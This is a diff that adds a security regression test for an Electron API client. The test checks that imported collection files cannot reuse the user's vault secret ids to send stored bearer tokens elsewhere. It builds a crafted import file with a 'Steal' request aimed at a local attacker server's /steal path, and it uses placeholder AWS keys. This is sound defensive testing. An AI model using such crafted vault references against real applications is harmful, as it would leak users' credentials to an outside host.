@@ -1,0 +1,107 @@
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { createCore, type Core } from '../../electron/core/create-core';
+import { createDispatcher, type CallContext } from '../../electron/ipc/dispatcher';
+import { createHandlers } from '../../electron/ipc/handlers';
+import { createMemorySecretValueStore } from '../../electron/core/variables/secret-value-store';
+import { makeTempDir } from '../support/temp-dir';
+import { startAttacker, type Attacker } from '../support/attacker-server';
+
+// The user's identity, found by the default chain on this machine.
+const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0004', secretAccessKey: 'userSecret/1111111111111111111111111111' };
+
+const context: CallContext = { emit: () => undefined };
+type Answer = { ok: boolean; value?: unknown; error?: { code: string; message: string } };
+let attacker: Attacker;
+let home: ReturnType<typeof makeTempDir>;
+let core: Core;
+let call: (channel: string, input: unknown) => Promise<Answer>;
+
+beforeAll(async () => {
+  attacker = await startAttacker();
+});
+afterAll(async () => {
+  await attacker.close();
+});
+beforeEach(() => {
+  home = makeTempDir('shomei-vault-ref-');
+  core = createCore({
+    host: 'test',
+    version: '0.0.0-test',
+    dataDir: join(home.dir, 'data'),
+    workingDirectory: home.dir,
+    env: { AWS_ACCESS_KEY_ID: USER_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: USER_KEYS.secretAccessKey },
+    secrets: createMemorySecretValueStore(),
+  });
+  const dispatcher = createDispatcher(createHandlers(core));
+  call = (channel, input) => dispatcher.dispatch(channel, input, context) as Promise<Answer>;
+  attacker.received.length = 0;
+});
+afterEach(async () => {
+  await core.close();
+  home.remove();
+});
+
+const USER_TOKEN = 'user-bearer-token-5c1e9f';
+
+// Not covered elsewhere: a Shomei file keeps an auth field's vault reference ({ kind: 'vault', id })
+// as written, and a Shomei export writes the exporter's ids. An id in a file names a value of the
+// sender's vault — never one the receiver typed for that request. A file that names the id of the
+// user's own token (read from a collection the user exported and shared) sent that token to the
+// file's host once trusted, though the user never gave this collection a token; and typing a new
+// token into the imported request overwrote the user's own request's one.
+describe("an imported auth field naming a value of the user's vault", () => {
+  it('is imported empty, and sends nothing of the vault once trusted; an export names no vault id', async () => {
+    // The user's own collection, with a bearer token kept in the vault.
+    const mine = await call('collections:create-collection', { name: 'Mine' });
+    const collectionId = (mine.value as { id: string }).id;
+    const secretId = 'auth_0123456789abcdef';
+    expect(await call('auth:store-secrets', { values: [{ id: secretId, value: USER_TOKEN }] })).toMatchObject({ ok: true });
+    const saved = await call('collections:save-request', {
+      placement: { collectionId },
+      request: {
+        name: 'My API',
+        method: 'GET',
+        url: 'https://api.example.com/me',
+        auth: { type: 'bearer', tokenRef: { kind: 'vault', id: secretId } },
+      },
+    });
+    expect(saved).toMatchObject({ ok: true });
+    const exported = await call('collections:export', { id: collectionId, format: 'shomei' });
+    expect(exported).toMatchObject({ ok: true });
+    expect((exported.value as { text: string }).text).not.toContain(secretId);
+
+    // The file that names it, sent back to the user.
+    const file = JSON.stringify({
+      format: 'shomei.collection',
+      formatVersion: 1,
+      collection: {
+        id: 'borrowed',
+        name: 'Borrowed',
+        items: [
+          {
+            kind: 'request',
+            id: 'steal',
+            name: 'Steal',
+            method: 'GET',
+            url: `${attacker.origin}/steal`,
+            auth: { type: 'bearer', tokenRef: { kind: 'vault', id: secretId } },
+          },
+        ],
+      },
+    });
+    const imported = await call('import:run', { text: file });
+    expect(imported).toMatchObject({ ok: true });
+    const importedId = (imported.value as { collectionId: string }).collectionId;
+    const [item] = core.collections.getCollection(importedId).items;
+    if (item?.kind !== 'request') throw new Error('expected one request');
+    expect(item.auth).toEqual({ type: 'bearer', tokenRef: { kind: 'variables', text: '' }, prefix: 'Bearer' });
+
+    await call('trust:trust-collection', { collectionId: importedId });
+    const { kind: _kind, id, ...request } = item;
+    const sent = await call('request:send-draft', { requestId: 'r-1', request, savedRequestId: id });
+    expect(sent).toMatchObject({ ok: false });
+    for (const received of attacker.received) expect(received.headers).not.toContain(USER_TOKEN);
+    expect(await core.secrets.get(secretId)).toBe(USER_TOKEN);
+  });
+});
